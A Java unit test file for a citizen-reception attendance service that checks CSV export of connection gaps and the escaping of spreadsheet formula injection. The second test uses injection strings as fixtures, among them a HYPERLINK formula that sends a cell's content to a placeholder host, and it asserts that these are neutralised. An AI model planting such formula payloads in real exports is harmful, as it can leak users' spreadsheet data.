package org.citizenreception.control.attendance;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Instant;
import java.util.List;
import org.citizenreception.control.session.SessionState;
import org.junit.jupiter.api.Test;

class AttendanceCsvTest {
    private static final Instant LIVE = Instant.parse("2026-11-27T01:00:00Z");

    @Test
    void aRoomThatDroppedAndCameBackHasItsGapAsAnIsoIntervalInTheLastColumn() {
        List<ConnectionSpan> spans = List.of(new ConnectionSpan(LIVE, LIVE.plusSeconds(600)),
                new ConnectionSpan(LIVE.plusSeconds(612), LIVE.plusSeconds(3600)));
        AttendanceReport report = new AttendanceReport(7, "Tiếp công dân", SessionState.ENDED, LIVE, LIVE.plusSeconds(3600), 10, 2, 1, 0, 0, 1,
                List.of(new AttendanceReport.Line("R1", "Xã Một", AttendanceReport.Presence.PRESENT, false, false, false, LIVE,
                                LIVE.plusSeconds(3600), 3588, 60, List.of(), 12, spans),
                        new AttendanceReport.Line("R2", "Xã Hai", AttendanceReport.Presence.ABSENT, false, false, false, null, null, 0, 0,
                                List.of(), null, List.of())));

        List<String> lines = AttendanceService.csv(report).lines().toList();

        assertThat(lines.get(0)).endsWith(",citizens,gaps");
        assertThat(lines.get(1)).endsWith(",12,2026-11-27T01:10:00Z/2026-11-27T01:10:12Z");
        assertThat(lines.get(2)).endsWith(",ABSENT,false,false,,,0,,,");
    }

    /** An official's name typed as a formula opens as text in Excel: a leading apostrophe, never a live cell. */
    @Test
    void aNameStartingLikeAFormulaIsNeutralised() {
        AttendanceReport report = new AttendanceReport(7, "Tiếp công dân", SessionState.ENDED, LIVE, LIVE.plusSeconds(3600), 1, 1, 0, 0, 0, 0,
                List.of(new AttendanceReport.Line("R1", "=HYPERLINK(\"http://x.invalid/\"&A1)", AttendanceReport.Presence.PRESENT, false,
                        false, false, LIVE, LIVE.plusSeconds(3600), 3600, 60,
                        List.of(new AttendanceReport.Official(1, "@SUM(A1)", "-Chủ tịch", LIVE, "op")), 3, List.of())));

        String line = AttendanceService.csv(report).lines().toList().get(1);

        assertThat(line).contains("\"'=HYPERLINK(").contains("'@SUM(A1) (-Chủ tịch)").doesNotContain(",=").doesNotContain(",@");
    }
}
